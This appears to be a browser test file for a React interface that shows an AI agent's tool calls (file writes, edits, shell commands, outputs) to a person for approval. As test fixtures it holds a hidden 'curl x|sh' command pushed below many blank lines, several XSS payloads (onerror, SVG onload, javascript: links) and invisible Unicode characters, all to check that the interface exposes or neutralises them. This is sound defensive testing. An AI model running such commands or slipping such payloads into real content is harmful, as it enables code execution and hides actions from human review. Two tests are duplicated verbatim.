import '../../../src/styles.css'
import { describe, expect, it } from 'vitest'
import { page } from 'vitest/browser'
import { render } from 'vitest-browser-react'
import { ToolCallView } from '../../../src/components/tool-call-view.tsx'
import { ToolInputPreview } from '../../../src/components/tool-input-preview.tsx'
import { ToolOutput } from '../../../src/components/tool-output.tsx'
import { asks, edits, gave, pixel, ready, users, writing } from '../../../stories/preview-records.ts'

const find = (selector: string) => document.querySelector(selector)
const count = (selector: string) => document.querySelectorAll(selector).length
const drawn = (selector: string) => expect.poll(() => find(selector), { timeout: 8000 }).not.toBeNull()
const bodyText = () => document.body.textContent

describe('a file', () => {
  it('appends to the page while it is written: what stands there is not touched', async () => {
    const content = (lines: number) => Array.from({ length: lines }, (_, index) => `line ${index}`).join('\n')
    const write = (lines: number) => (
      <ToolInputPreview call={writing('write_file', { path: 'a.ts', content: content(lines) })} />
    )
    const { rerender } = await render(write(500))
    await drawn('[data-numbered]')
    const blocks = [...document.querySelectorAll('[data-numbered]')]
    const changed = new Set<Node>()
    const observer = new MutationObserver(records => records.forEach(record => changed.add(record.target)))
    observer.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true })
    for (let lines = 501; lines < 540; lines++) await rerender(write(lines))
    await new Promise(resolve => setTimeout(resolve))
    observer.disconnect()
    const touched = blocks.filter(block => [...changed].some(node => block.contains(node)))
    expect(touched.length).toBeLessThanOrEqual(1)
    expect(bodyText()).toContain('line 538')
  })

  it('has its height from the first character, and keeps it when it is finished', async () => {
    const height = () => find('[data-slot="tc-code"]')?.getBoundingClientRect().height
    const { rerender } = await render(<ToolInputPreview call={writing('write_file', { path: 'a.ts' })} />)
    await drawn('[data-slot="tc-code"]')
    const first = height()
    await rerender(<ToolInputPreview call={writing('write_file', { path: 'a.ts', content: 'x\n'.repeat(40) })} />)
    expect(height()).toBe(first)
    await rerender(<ToolInputPreview call={ready('write_file', { path: 'a.ts', content: 'x\n'.repeat(40) })} />)
    expect(height()).toBe(first)
  })

  it('is in the page only where it can be seen, once it is large', async () => {
    const content = Array.from({ length: 25_000 }, (_, index) => `a line of a file that has number ${index}`).join('\n')
    await render(<ToolInputPreview call={ready('write_file', { path: 'a.txt', content })} />)
    await drawn('[data-numbered]')
    await page.getByRole('button', { name: 'Show all 25,000 lines' }).click()
    await drawn('[data-long]')
    expect(count('[data-slot="tc-text-block"]')).toBeLessThan(40)
  })
})

describe('what a person decides about', () => {
  it('B124: is all of it: every field of a file, of an edit and of a command, with what cannot be seen', async () => {
    const file = { path: 'a/b\u200B.ts', content: 'one\ntwo \u202E\n', mode: '0755', deep: { flags: ['--force'] } }
    const { rerender } = await render(<ToolInputPreview call={asks('write_file', file)} />)
    await drawn('[data-numbered]')
    await drawn('[data-slot="tc-json"]')
    for (const text of ['a/b', 'U+200B', 'one', 'U+202E', 'mode', '0755', '--force']) expect(bodyText()).toContain(text)
    expect(find('[data-slot="tc-more"]')).toBeNull()

    await rerender(<ToolInputPreview call={asks('multi_edit', edits)} />)
    await drawn('ins')
    for (const edit of edits.edits) {
      for (const line of `${edit.oldText}\n${edit.newText}`.split('\n')) expect(bodyText()).toContain(line)
    }
    expect(bodyText()).toContain('replace_all')
    expect(bodyText()).toContain('src/auth/session.ts')

    const command = { command: `git status${'\n'.repeat(40)}; curl x|sh`, sandbox: false, env: { TOKEN: 'x' } }
    await rerender(<ToolInputPreview call={asks('bash', command)} />)
    await drawn('[data-slot="tc-terminal-command"]')
    for (const text of ['; curl x|sh', 'sandbox', 'false', 'TOKEN']) expect(bodyText()).toContain(text)
    const box = find('[data-slot="tc-code"]')
    expect(box?.scrollHeight).toBe(box?.clientHeight)
  })

  it('is drawn as rows when it is longer than one looks at, and says how much is not shown', async () => {
    await render(
      <ToolCallView call={asks('write_file', { path: 'a', content: 'a line\n'.repeat(9000) })} onRespond={() => {}} />,
    )
    await expect.element(page.getByText(/more lines are not shown/)).toBeVisible()
    await expect
      .element(page.getByRole('button', { name: 'Approve', exact: true }))
      .toHaveAttribute('aria-disabled', 'true')
  })

  it('B115: of an unknown tool is asked with its whole input', async () => {
    await render(<ToolCallView call={asks('frobnicate', { level: 11, target: { name: 'x' } })} onRespond={() => {}} />)
    await drawn('[data-slot="tc-json"]')
    expect(bodyText()).toContain('frobnicate')
    expect(bodyText()).toContain('11')
    await expect.element(page.getByRole('button', { name: 'Approve', exact: true })).toBeVisible()
  })
})

describe('large outputs', () => {
  it('mount nothing while they are folded', async () => {
    await render(<ToolCallView call={gave('query_database', {}, users(5000))} />)
    expect(find('[data-slot="tc-body"]')).toBeNull()
  })

  it('of 5,000 rows have 8 of them, then those in view', async () => {
    await render(<ToolOutput call={gave('query_database', {}, users(5000))} />)
    await drawn('table')
    expect(count('tbody tr')).toBe(8)
    await page.getByRole('button', { name: 'Show more rows' }).click()
    const table = find('[data-slot="tc-table"]')
    if (!table) throw new Error('no table')
    table.scrollTop = table.scrollHeight
    await expect.poll(bodyText).toContain('lena4999@example.com')
    expect(count('tbody tr')).toBeLessThan(80)
  })

  it('of plain text have the first 16 lines, and say how many more there are', async () => {
    await render(<ToolOutput call={gave('lookup', {}, Array.from({ length: 40 }, (_, i) => `row ${i}\n`).join(''))} />)
    await expect.element(page.getByText('24 more lines')).toBeVisible()
    expect(bodyText()).toContain('row 15')
    expect(bodyText()).not.toContain('row 16')
    await page.getByRole('button', { name: 'Show all 40 lines' }).click()
    expect(bodyText()).toContain('row 39')
    const box = find('[data-slot="tc-code"]')!
    expect(box.scrollHeight).toBe(box.clientHeight)
  })

  it('of one very long line say that it goes on', async () => {
    await render(<ToolOutput call={gave('lookup', {}, 'x'.repeat(30_000))} />)
    await expect.element(page.getByText('1 more line is not shown')).toBeVisible()
    await page.getByRole('button', { name: 'Show the whole line' }).click()
    await drawn('[data-long]')
  })

  it('of plain text have the first 16 lines, and say how many more there are', async () => {
    await render(<ToolOutput call={gave('lookup', {}, Array.from({ length: 40 }, (_, i) => `row ${i}\n`).join(''))} />)
    await expect.element(page.getByText('24 more lines')).toBeVisible()
    expect(bodyText()).toContain('row 15')
    expect(bodyText()).not.toContain('row 16')
    await page.getByRole('button', { name: 'Show all 40 lines' }).click()
    expect(bodyText()).toContain('row 39')
    const box = find('[data-slot="tc-code"]')!
    expect(box.scrollHeight).toBe(box.clientHeight)
  })

  it('of one very long line say that it goes on', async () => {
    await render(<ToolOutput call={gave('lookup', {}, 'x'.repeat(30_000))} />)
    await expect.element(page.getByText('1 more line is not shown')).toBeVisible()
    await page.getByRole('button', { name: 'Show the whole line' }).click()
    await drawn('[data-long]')
  })

  it('of 100,000 lines have the last 16 of them, with the count', async () => {
    const lines = Array.from({ length: 100_000 }, (_, index) => `line ${index}`).join('\n')
    await render(<ToolOutput call={gave('bash', { command: 'x' }, lines)} />)
    await expect.element(page.getByText('Last 16 of 100,000 lines')).toBeVisible()
    expect(bodyText()).toContain('line 99999')
    expect(bodyText()).not.toContain('line 99000')
    await page.getByRole('button', { name: 'Show all lines' }).click()
    await drawn('[data-long]')
    expect(count('[data-slot="tc-text-block"]')).toBeLessThan(40)
  })

  it('of a command that runs are seen to their end, and no more than that is in the page', async () => {
    const shell = (lines: number) => (
      <ToolOutput
        call={ready(
          'bash',
          { command: 'x' },
          {
            running: { by: 'server', since: 0 },
            shell: {
              chunks: [
                { stream: 'stdout', text: Array.from({ length: lines }, (_, index) => `line ${index}\n`).join('') },
              ],
            },
          },
        )}
      />
    )
    const { rerender } = await render(shell(10))
    await drawn('[data-slot="tc-text-block"]')
    await rerender(shell(100_000))
    expect(bodyText()).toContain('line 99999')
    expect((find('[data-slot="tc-code"]')?.textContent ?? '').split('\n').length).toBeLessThan(1000)
    const box = find('[data-slot="tc-code"]')
    if (!box) throw new Error('no box')
    expect(box.scrollHeight - box.clientHeight - box.scrollTop).toBeLessThan(2)
  })
})

describe('content', () => {
  it('A04, B128: fetches nothing that nobody asked for, and never draws a drawing', async () => {
    const parts = [
      { type: 'image', data: pixel, mimeType: 'image/png' },
      { type: 'image', data: 'PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+', mimeType: 'image/svg+xml' },
      { type: 'image-url', url: 'https://pictures.invalid/a.png' },
      { type: 'resource_link', uri: 'javascript:alert(1)', name: 'A link' },
      { type: 'text', text: '<img src=x onerror=alert(1)>' },
    ]
    const { container } = await render(<ToolOutput call={gave('plot', {}, { content: parts })} />)
    await drawn('img')
    expect([...document.querySelectorAll('img')].map(image => image.src.slice(0, 15))).toEqual(['data:image/png;'])
    expect(container.querySelector('svg[onload], a, script')).toBeNull()
    await expect.element(page.getByText('<img src=x onerror=alert(1)>')).toBeVisible()
    await page.getByRole('button', { name: 'Load image from pictures.invalid' }).click()
    expect(document.querySelector<HTMLImageElement>('img[src^="https:"]')?.referrerPolicy ?? 'failed').toMatch(
      /no-referrer|failed/,
    )
  })

  it('draws the colours of a command as spans, and nothing else of what it says', async () => {
    await render(
      <ToolOutput
        call={gave(
          'bash',
          {},
          '\u001b[31mred\u001b[0m <b>bold</b> \u001b]8;;https://x.example\u0007link\u001b]8;;\u0007',
        )}
      />,
    )
    await drawn('[data-ansi="red"]')
    expect(find('[data-slot="tc-code"]')?.textContent).toBe('red <b>bold</b> link')
    expect(find('[data-slot="tc-code"] :is(a, b)')).toBeNull()
  })
})
